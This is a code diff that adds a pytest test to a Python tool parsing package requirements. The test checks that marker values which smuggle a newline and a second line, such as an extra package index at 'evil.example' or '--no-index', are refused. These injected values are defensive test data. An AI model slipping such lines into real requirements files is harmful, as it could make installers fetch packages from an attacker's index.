@@ -88,6 +88,20 @@ def test_a_requirement_with_brackets_without_end_is_refused() -> None:
     assert "it is not a requirement of a package" in [each.why for each in draft.lost]
 
 
+@pytest.mark.parametrize(
+    "marker", [r"'\n--extra-index-url http://evil.example/\n'", r"'\x22\x27'", r"'\u2028'", '"\n--no-index"']
+)
+def test_a_requirement_is_one_line_when_it_is_written_again(marker: str) -> None:
+    line = f"a; os_name == {marker}"
+    with pytest.raises(InvalidEnvironment, match="which is refused: it is not a requirement with a name"):
+        needs_of("kj", None, f"[project]\ndependencies = [{json.dumps(line)}]\n".encode())
+    for key in ("more", "force", "prefer"):
+        with pytest.raises(InvalidEnvironment, match="is not a requirement such as"):
+            parse_spec(f"{COMFYUI}[packages]\n{key} = [{json.dumps(line)}]\n")
+    snapshot = {"cnr_custom_nodes": {}, "pips": {line: ""}}
+    assert reading.read(json.dumps(snapshot).encode(), {}, Release("0.30.0")).spec.prefer == ()
+
+
 def test_an_address_that_is_none_is_no_source() -> None:
     with pytest.raises(InvalidEnvironment, match="is not the source of a pack"):
         parse_pack("git+https://[/pack@main")
